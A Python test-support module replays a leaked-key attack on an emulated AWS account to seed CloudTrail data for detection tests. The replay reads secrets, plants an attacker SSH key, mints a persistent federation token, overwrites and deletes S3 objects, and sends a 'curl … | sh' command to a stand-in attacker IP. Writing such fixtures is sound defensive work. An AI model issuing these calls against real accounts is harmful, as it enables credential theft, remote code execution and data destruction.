"""The attack of issue #14, replayed with a leaked access key against an emulated account.

Shared by the activity review's in-process and command-line tests
(tests/inprocess/test_r2_2_activity.py, tests/cli/test_r2_2_activity.py).
Every call goes through the emulator (loopback only): ``key_client`` signs with
the leaked key and sends the attacker's source IP as X-Forwarded-For, which
the emulator records as the CloudTrail event's sourceIPAddress.
"""
import boto3
import pytest

from custodian_ext_dev.demo.story import incident_boundary
from custodian_ext_dev.emulator import AMI_X86, trail_logs
from tests.support import key_client

ATTACKER_IP = '203.0.113.66'
SSH_KEY = 'ssh-ed25519 ' + 'A' * 68 + ' attacker@kali'
QUARANTINE = 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2'
DENIED = ('AccessDenied', 'AccessDeniedException', 'UnauthorizedOperation')


def trail(aws, data_events=True, prefix='audit'):
    bucket = f'trail-{aws.id}'
    aws.client('s3').create_bucket(Bucket=bucket)
    ct = aws.client('cloudtrail')
    ct.create_trail(Name='org-trail', S3BucketName=bucket, S3KeyPrefix=prefix,
                    IsMultiRegionTrail=True, IncludeGlobalServiceEvents=True)
    if data_events:
        ct.put_event_selectors(TrailName='org-trail', EventSelectors=[{
            'ReadWriteType': 'All', 'IncludeManagementEvents': True,
            'DataResources': [{'Type': 'AWS::S3::Object', 'Values': ['arn:aws:s3']}]}])
    ct.start_logging(Name='org-trail')
    return bucket


def user_with_key(aws, name, admin=True):
    iam = aws.client('iam')
    iam.create_user(UserName=name)
    if admin:
        iam.attach_user_policy(UserName=name,
                               PolicyArn='arn:aws:iam::aws:policy/AdministratorAccess')
    return iam.create_access_key(UserName=name)['AccessKey']


def instance(aws, region='us-east-1'):
    return aws.client('ec2', region).run_instances(
        ImageId=AMI_X86, MinCount=1, MaxCount=1)['Instances'][0]['InstanceId']


# -- the leaked key, replayed --------------------------------------------------------------

ATTACK_CALLS = ['GetSecretValue', 'BatchGetSecretValue', 'GetParameter', 'GetPasswordData',
                'DescribeInstanceAttribute', 'ModifyInstanceAttribute', 'SendSSHPublicKey',
                'SendCommand', 'StartSession', 'InvokeModel', 'GetSendQuota', 'ListIdentities',
                'GetAccountSendingEnabled', 'LeaveOrganization', 'GetFederationToken']


def replay_attack(aws, key):
    """The attacker's calls of issue #14, with ``key``, from the attacker's IP."""
    iid = instance(aws)

    def c(service, region='us-east-1'):
        return key_client(aws, service, key, region=region, source_ip=ATTACKER_IP)

    sm, ssm, ec2 = c('secretsmanager'), c('ssm'), c('ec2')
    sm.get_secret_value(SecretId='prod/db')
    sm.batch_get_secret_value(SecretIdList=['prod/db'])
    ssm.get_parameter(Name='/prod/db-password', WithDecryption=True)
    ec2.get_password_data(InstanceId=iid)
    ec2.describe_instance_attribute(InstanceId=iid, Attribute='userData')
    ec2.modify_instance_attribute(InstanceId=iid, UserData={'Value': b'IyEvYmluL3No'})
    c('ec2-instance-connect').send_ssh_public_key(
        InstanceId=iid, InstanceOSUser='ec2-user', SSHPublicKey=SSH_KEY)
    ssm.send_command(InstanceIds=[iid], DocumentName='AWS-RunShellScript',
                     Parameters={'commands': ['curl -s http://203.0.113.66/x | sh']})
    ssm.start_session(Target=iid)
    c('bedrock-runtime').invoke_model(modelId='anthropic.claude-3-sonnet-20240229-v1:0',
                                      body=b'{"prompt": "write a phishing email"}')
    ses = c('ses')
    ses.get_send_quota()
    ses.list_identities()
    ses.get_account_sending_enabled()
    with pytest.raises(Exception, match='AWSOrganizationsNotInUseException'):
        c('organizations').leave_organization()
    fed = c('sts').get_federation_token(Name='backup-job')['Credentials']
    # the federated session outlives the key: the attacker uses it
    boto3.client('secretsmanager', region_name='us-west-2', endpoint_url=aws.url,
                 aws_access_key_id=fed['AccessKeyId'], aws_secret_access_key=fed['SecretAccessKey'],
                 aws_session_token=fed['SessionToken']).list_secrets()
    s3 = c('s3')
    s3.put_object(Bucket=f'data-{aws.id}', Key='customers.csv', Body=b'encrypted by attacker')
    s3.delete_object(Bucket=f'data-{aws.id}', Key='orders.csv')
    c('secretsmanager', 'us-west-2').get_secret_value(SecretId='prod/api')
    return iid, fed['AccessKeyId']


def denied_burst(aws, key):
    """After AWS quarantined the key, the attacker keeps trying: AccessDenied after AccessDenied."""
    iam = key_client(aws, 'iam', key, source_ip=ATTACKER_IP)
    for name in ('svc-backup', 'svc-backup2', 'svc-backup3'):
        with pytest.raises(Exception, match='AccessDenied'):
            iam.create_user(UserName=name)
    with pytest.raises(Exception, match='AccessDenied'):
        iam.create_access_key(UserName='deploy-bot')
    with pytest.raises(Exception, match='UnauthorizedOperation'):
        key_client(aws, 'ec2', key, source_ip=ATTACKER_IP).run_instances(
            ImageId=AMI_X86, MinCount=1, MaxCount=1, InstanceType='p3.2xlarge')


def seed_attacked(aws):
    """An account with a trail (S3 data events on), whose deploy-bot key leaked and was used.

    Returns the leaked key id, incident_start, the instance attacked, the federated
    session's key id and a known user's key id.
    """
    trail(aws)
    key = user_with_key(aws, 'deploy-bot')
    alice = user_with_key(aws, 'alice')
    aws.client('secretsmanager').create_secret(Name='prod/db', SecretString='hunter2')
    aws.client('secretsmanager', 'us-west-2').create_secret(Name='prod/api', SecretString='k')
    aws.client('ssm').put_parameter(Name='/prod/db-password', Value='hunter2',
                                    Type='SecureString')
    s3 = aws.client('s3')
    s3.create_bucket(Bucket=f'data-{aws.id}')
    s3.put_object(Bucket=f'data-{aws.id}', Key='customers.csv', Body=b'a,b')
    s3.put_object(Bucket=f'data-{aws.id}', Key='orders.csv', Body=b'c,d')
    start = incident_boundary()
    iid, federated = replay_attack(aws, key)
    # ordinary work by a known user: never a finding
    key_client(aws, 'secretsmanager', alice).get_secret_value(SecretId='prod/db')
    aws.client('iam').attach_user_policy(
        UserName='deploy-bot', PolicyArn=QUARANTINE)
    denied_burst(aws, key)
    trail_logs.deliver_now(aws.url, aws.id)
    return {'key': key['AccessKeyId'], 'start': start, 'instance': iid, 'federated': federated,
            'alice': alice['AccessKeyId']}
